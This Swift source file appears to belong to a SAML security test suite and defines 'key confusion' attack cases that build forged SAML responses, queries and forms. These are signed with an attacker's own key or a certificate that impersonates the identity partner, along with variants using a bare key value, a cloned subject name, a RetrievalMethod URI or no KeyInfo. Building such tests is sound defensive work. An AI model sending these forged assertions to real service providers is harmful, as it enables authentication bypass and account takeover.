import SAML
import XMLSecurity

// Keys that the message brings along.
extension Attack {
    private static let faking = "CVE-2015-5372, CVE-2021-21239, CVE-2026-18089"

    static let keyConfusion: [Attack] = [
        response(
            15,
            "own-certificate",
            "Signed by the attacker, whose certificate names the partner",
            "攻击者自签，证书冒用伙伴名称",
            faking,
            [.signature]
        ) {
            try $0.response { $0.subject = AttackMaterial.forgedSubject }.document($0.attacker)
        },
        response(15, "own-certificate-response", "The same at the response", "同上，签在响应上", faking, [.signature]) {
            try $0.response { $0.subject = AttackMaterial.forgedSubject }.document($0.attacker, .response)
        },
        keyInfo("own-key-value", "Signed by the attacker, with the bare key", "攻击者自签，附裸公钥") { key in
            let der = Base64.encode(key.certificate.publicKey.der)
            return "<ds:KeyValue><dsig11:DEREncodedKeyValue xmlns:dsig11=\"http://www.w3.org/2009/xmldsig11#\">\(der)"
                + "</dsig11:DEREncodedKeyValue></ds:KeyValue>"
        },
        keyInfo("cloned-issuer-serial", "Signed by the attacker, naming the partner's certificate", "攻击者自签，仅写伙伴证书名称") {
            key in
            "<ds:X509Data><ds:X509SubjectName>\(key.certificate.subject)</ds:X509SubjectName></ds:X509Data>"
        },
        keyInfo("retrieval-method", "Signed by the attacker, the key to be fetched", "攻击者自签，密钥需另行获取") { _ in
            "<ds:RetrievalMethod URI=\"http://127.0.0.1:9/key\"></ds:RetrievalMethod>"
        },
        keyInfo("no-key-info", "Signed by the attacker, without KeyInfo", "攻击者自签，不带 KeyInfo") { _ in "" },
        query(15, "own-key-query", "A query signed by the attacker", "攻击者签名的查询串", faking, [.signature]) {
            try $0.query($0.forgedRequest.unsigned(), signedBy: $0.attacker)
        },
        form(15, "own-key-form", "A form signed by the attacker", "攻击者签名的表单", faking, [.signature]) {
            try $0.forgedRequest.signed(by: $0.attacker)
        },
    ]

    private static func keyInfo(
        _ id: String,
        _ en: String,
        _ zh: String,
        _ content: @escaping @Sendable (SigningKey) -> String
    ) -> Attack {
        response(15, id, en, zh, faking, [.signature]) { material in
            let parts = try material.parts()
            let evil = try parts.evil()
            var draft = SignatureDraft([.init("#_evil", over: evil)])
            let info = content(material.attacker)
            draft.keyInfo = info.isEmpty ? "" : "<ds:KeyInfo>\(info)</ds:KeyInfo>"
            return try parts.with(Parts.signed(evil, draft.signed(by: material.attacker))).octets
        }
    }
}
